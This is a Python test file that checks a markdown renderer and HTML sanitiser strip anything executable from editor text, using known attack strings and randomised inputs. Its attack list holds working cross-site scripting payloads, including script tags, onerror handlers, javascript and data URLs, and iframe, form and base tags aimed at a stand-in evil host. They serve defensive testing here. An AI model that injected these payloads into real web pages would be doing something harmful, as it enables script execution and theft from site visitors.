"""Nothing executable survives the one way from an editor's text to a page."""

import html5lib
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from events.text import Markers
from sources.prose import ATTRIBUTES, PROTOCOLS, TAGS, render_markdown, sanitise

# From the OWASP filter evasion sheet and the test lists of bleach and nh3, in their kinds.
ATTACKS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//xss.rocks/xss.js></SCRIPT>",
    '<img src=x onerror="alert(1)">',
    "<svg/onload=alert(1)>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "[click](javascript:alert(1))",
    "[click](JaVaScRiPt:alert(1))",
    "[click](java\tscript:alert(1))",
    "[click](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[click](vbscript:msgbox(1))",
    "<javascript:alert(1)>",
    '[a](https://x "onmouseover=alert(1) x")',
    '[a](https://x" onmouseover="alert(1))',
    "![x](javascript:alert(1))",
    "<iframe src=https://evil.example></iframe>",
    "<form action=https://evil.example><button>x</button></form>",
    "<a href='&#106;avascript:alert(1)'>x</a>",
    '<div style="background:url(javascript:alert(1))">x</div>',
    "<base href=//evil.example/>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "{claim:<script>alert(1)</script>}",
    "[@S1, <img src=x onerror=alert(1)>]",
    '<data value="claim:C1"><script>alert(1)</script></data>',
]
MARKUP = st.text(alphabet=st.sampled_from("<>&\"'()[]{}!#*_`=:/\\@, \n\tabcjsvxS1Conlerptig;-"))


def offences(html):
    """What in `html` the allow-list does not allow, read with another parser."""
    for node in html5lib.parseFragment(html, namespaceHTMLElements=False).iter():
        if not isinstance(node.tag, str) or node.tag == "DOCUMENT_FRAGMENT":
            continue
        if node.tag not in TAGS:
            yield node.tag
        allowed = ATTRIBUTES.get(node.tag, set()) | ({"rel"} if node.tag == "a" else set())
        yield from set(node.attrib) - allowed
        address = node.attrib.get("href", "")
        scheme = address.partition(":")[0].strip().lower()
        if ":" in address.split("/")[0] and scheme not in PROTOCOLS:
            yield address


@pytest.mark.parametrize("attack", ATTACKS)
def test_a_known_attack_leaves_nothing_executable(attack):
    assert list(offences(render_markdown(attack, [Markers()]))) == []
    assert list(offences(sanitise(attack))) == []


@settings(max_examples=300, deadline=None)
@given(st.one_of(MARKUP, st.text(), st.lists(st.sampled_from(ATTACKS)).map("".join)))
def test_no_text_whatever_leaves_anything_executable(text):
    assert list(offences(render_markdown(text, [Markers()]))) == []


@settings(max_examples=200, deadline=None)
@given(MARKUP)
def test_sanitising_twice_changes_nothing(text):
    once = sanitise(text)
    assert sanitise(once) == once


def test_raw_html_is_shown_as_the_text_it_is():
    assert render_markdown("<b>613</b>") == "<p>&lt;b&gt;613&lt;/b&gt;</p>"


def test_the_markdown_that_editors_need_works():
    html = render_markdown(
        "### The town\n\n*Khojaly* and **Agdam**, [report](https://www.hrw.org/)\n\n- a\n- b"
    )
    for part in ("<h3>The town</h3>", "<em>Khojaly</em>", "<strong>Agdam</strong>", "<li>a</li>"):
        assert part in html
    assert '<a href="https://www.hrw.org/" rel="noopener nofollow">report</a>' in html
